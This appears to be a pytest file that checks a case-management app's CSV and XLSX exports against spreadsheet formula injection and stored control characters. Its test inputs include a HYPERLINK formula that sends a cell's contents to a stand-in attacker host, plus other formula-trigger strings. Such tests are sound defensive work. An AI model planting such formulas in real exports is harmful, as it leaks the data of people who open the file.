"""A download opens safely in a spreadsheet program: what a citizen typed stays text, never a
formula, and no stored character breaks the file."""

import csv
import io

import pytest
from openpyxl import load_workbook

from hearline.cases.models import Case
from hearline.testing.org import register

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"详情")': "+海曙区",
    "-2+3": "@SUM(A1:A9)",
}


def _download(client, org, fmt):
    client.force_login(org.manager)
    response = client.get("/staff/cases/", {"queue": "all", "format": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        text = b"".join(response.streaming_content).decode().lstrip("\ufeff")
        return list(csv.reader(io.StringIO(text)))[1:]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_citizens_formula_is_exported_as_text(client, org, fmt):
    for title, district in HOSTILE.items():
        register(org, title=title, district=district)
    rows = _download(client, org, fmt)
    exported = {(row[1], row[5]) for row in rows}
    assert exported == {("'" + title, "'" + district) for title, district in HOSTILE.items()}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_stored_control_character_does_not_break_the_download(client, org, fmt):
    case = register(org).case
    # Stored before intake refused control characters.
    Case.objects.filter(pk=case.pk).update(title="停水\x0b通知\x1b", district="海曙\x07区")
    [row] = _download(client, org, fmt)
    assert (row[1], row[5]) == ("停水通知", "海曙区")
